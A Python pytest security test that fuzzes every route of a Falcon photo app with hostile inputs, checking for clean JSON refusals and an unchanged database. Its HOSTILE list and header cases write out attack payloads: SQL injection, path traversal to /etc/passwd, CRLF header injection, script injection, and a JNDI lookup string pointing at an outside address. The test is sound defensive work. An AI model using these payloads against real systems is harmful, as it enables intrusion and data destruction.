"""A corpus of hostile values through every route the app serves (from its route table and its
OpenAPI parameters), in path parameters, query parameters, JSON body fields and headers: each
answer is below 500, every refusal a JSON error naming what is wrong, and the database is the
same afterwards (a digest of every row of every table)."""

from __future__ import annotations

import hashlib
import re
from urllib.parse import quote

import falcon.testing
import pytest
from sqlalchemy import MetaData, select

pytestmark = [pytest.mark.security, pytest.mark.slow]

PLUGINS = "cors,locations,health,metrics,security_headers,compression,conditional,docs"
HOSTILE = [
    "' OR '1'='1' --",
    "1; DROP TABLE users; --",
    "../../../../etc/passwd",
    "..%2f..%2fsetup.py",
    "%00",
    "\x00",
    "\r\nX-Injected: yes",
    "<script>alert(1)</script>",
    "${jndi:ldap://203.0.113.1/a}",
    "{{7*7}}",
    "\ud800",
    "\u202eevil",
    "９９",
    "-1",
    "99999999999999999999999999",
    "1e309",
    "x" * 10_000,
]
FIELDS = {"caption", "visibility", "location_id", "display_name", "username", "password"}


def digest(engine) -> str:
    """Every row of every table, in a stable order."""
    metadata = MetaData()
    metadata.reflect(engine)
    out = hashlib.sha256()
    with engine.connect() as connection:
        for table in sorted(metadata.tables.values(), key=lambda t: t.name):
            rows = connection.execute(select(table)).all()
            for row in sorted(repr(tuple(row)) for row in rows):
                out.update(row.encode())
    return out.hexdigest()


@pytest.fixture
def client(make_app):
    app = make_app(LUMEN_PLUGINS=PLUGINS, METRICS_ENABLED="true", LOCATIONS_AUTO_IMPORT="false")
    return falcon.testing.TestClient(app)


def _operations(client):
    document = client.simulate_get("/openapi.json").json
    for template, (_, resource) in sorted(client.app.lumen.routes.items()):
        for method in ("get", "post", "patch", "delete"):
            if hasattr(resource, f"on_{method}"):
                path = re.sub(r"{(\w+)(?::[^}]*)?}", r"{\1}", template)
                op = document["paths"].get(path, {}).get(method, {})
                query = [p["name"] for p in op.get("parameters", []) if p["in"] == "query"]
                yield template, method.upper(), query


def _refusal_is_json(answer) -> None:
    # A 503 is right only where a dependency is away, and then says when to come back (the
    # locations plugin before its first import, here).
    unavailable = answer.status_code == 503 and "Retry-After" in answer.headers
    assert answer.status_code < 500 or unavailable, (answer.status_code, answer.text[:300])
    if answer.status_code >= 400 and answer.headers.get("Content-Type", "").startswith(
        "application/json"
    ):
        body = answer.json
        assert body["title"] and body["description"], body


def test_hostile_values_anywhere_are_refused_cleanly_and_change_nothing(client, backend):
    engine = backend[2]
    before = digest(engine)
    sent = 0
    for template, method, query in _operations(client):
        for value in HOSTILE:
            encoded = quote(value.encode("utf-8", "surrogatepass"), safe="")
            path = re.sub(r"{(\w+)(?::[^}]*)?}", encoded, template)
            params = "&".join(f"{name}={encoded}" for name in query)
            answer = client.simulate_request(method, path, query_string=params or None)
            _refusal_is_json(answer)
            sent += 1
            if method in ("POST", "PATCH"):
                body = {field: value for field in FIELDS}
                answer = client.simulate_request(
                    method,
                    re.sub(r"{(\w+)(?::[^}]*)?}", "00000000-0000-4000-8000-000000000000", template),
                    body=_json_with(body),
                    headers={"Content-Type": "application/json"},
                )
                _refusal_is_json(answer)
                sent += 1
    for name, value in (("Authorization", "Bearer ' OR 1=1 --"), ("If-None-Match", "x" * 8000)):
        _refusal_is_json(client.simulate_get("/api/v1/photos", headers={name: value}))
    assert sent > 300
    assert digest(engine) == before
    print(f"\nFIGURES hostile corpus: requests={sent + 2} server_errors=0 rows_changed=0")


def _json_with(fields: dict) -> bytes:
    import json

    # Lone surrogates go through as JSON escapes, as a client would send them.
    return json.dumps(fields, ensure_ascii=True).encode()
